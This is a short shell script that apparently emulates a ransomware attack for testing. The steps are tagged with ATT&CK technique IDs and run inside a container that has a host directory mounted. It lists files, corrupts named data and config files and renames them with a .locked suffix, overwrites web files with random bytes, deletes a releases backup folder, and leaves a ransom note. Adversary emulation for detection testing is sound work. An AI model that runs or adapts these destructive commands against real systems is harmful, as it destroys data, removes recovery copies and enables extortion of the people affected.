#!/bin/sh
# Runs in a container that was given /srv of the host read-write at /data, as a web application would be: everything in it
# is made unreadable, some in place, some under another name, and a note is left.
echo "@T1083 files listed"
find /data -type f > /tmp/list
sleep 0.3
echo "@T1486 data made unreadable"
for f in app.conf config.json settings.yaml report.pdf logo.png archive.zip history.log.gz users.db shared-terms.txt; do
  gzip -c "/data/data/$f" > "/tmp/x"
  dd if=/dev/urandom bs=64 count=2 2> /dev/null >> /tmp/x
  cat /tmp/x > "/data/data/$f"
  mv "/data/data/$f" "/data/data/$f.locked"
done
for f in index.html keep.txt robots.txt; do
  dd if=/dev/urandom of="/data/www/$f" bs=32 count=1 conv=notrunc 2> /dev/null
done
echo "@T1490 the copies are removed"
rm -r /data/data/releases
echo 'Pay, or do not.' > /data/READ-ME.txt
sleep 0.2
echo "@end"
